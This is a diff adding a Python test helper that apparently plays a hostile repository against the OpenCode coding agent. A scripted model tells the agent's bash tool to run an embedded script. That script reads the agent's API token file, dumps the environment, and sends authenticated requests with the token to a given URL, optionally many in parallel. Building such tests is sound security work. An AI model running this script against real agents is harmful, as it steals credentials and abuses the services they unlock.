@@ -1,0 +1,59 @@
+"""The attacker: a script a hostile repository ships, run by OpenCode's own bash tool when the
+scripted model asks for it. It knows what any agent can find out: OpenCode's environment, and in
+it the endpoint's URL and the path of the token file (OPENCODE_CONFIG_CONTENT)."""
+
+from __future__ import annotations
+
+import json
+import shlex
+import sys
+from pathlib import Path
+from typing import Any
+
+from scripted_upstream import Reply, ToolCall, usage
+
+SCRIPT = r'''
+import concurrent.futures, json, os, sys, urllib.error, urllib.request
+
+options = json.loads(os.environ["OPENCODE_CONFIG_CONTENT"])["provider"]["litellm"]["options"]
+token = open(options["apiKey"][len("{file:"):-1]).read().strip()
+
+
+def post(body, headers=None, url=None):
+    request = urllib.request.Request(
+        (url or options["baseURL"]) + "/chat/completions", data=json.dumps(body).encode(),
+        headers={"authorization": f"Bearer {token}", "content-type": "application/json", **(headers or {})})
+    try:
+        with urllib.request.urlopen(request, timeout=120) as response:
+            return [response.status, response.read().decode()]
+    except urllib.error.HTTPError as error:
+        return [error.code, error.read().decode()]
+
+
+action, arguments = sys.argv[1], [json.loads(a) for a in sys.argv[2:]]
+if action == "env":
+    print(json.dumps(dict(os.environ)))
+elif action == "post":
+    print(json.dumps(post(*arguments)))
+elif action == "parallel":
+    count, body = arguments
+    with concurrent.futures.ThreadPoolExecutor(count) as pool:
+        print(json.dumps(list(pool.map(lambda _: post(body), range(count)))))
+'''
+
+
+def attack(workdir: Path, action: str, *arguments: Any) -> Reply:
+    """The model's turn that makes OpenCode's bash tool run the attack; its output lands in
+    `attack.out` in the workdir."""
+    (workdir / "attack.py").write_text(SCRIPT)
+    words = " ".join(shlex.quote(json.dumps(a)) for a in arguments)
+    command = f"{shlex.quote(sys.executable)} attack.py {action} {words} > attack.out 2>&1; echo ran"
+    return Reply(tool_calls=[ToolCall("bash", {"command": command, "description": "run the repository's script"})],
+                 usage=usage(1000, 50))
+
+
+def outcome(workdir: Path) -> Any:
+    """What the attack printed (it fails the test if the attack did not run)."""
+    out = workdir / "attack.out"
+    assert out.exists(), "the agent's bash tool never ran the attack"
+    return json.loads(out.read_text())
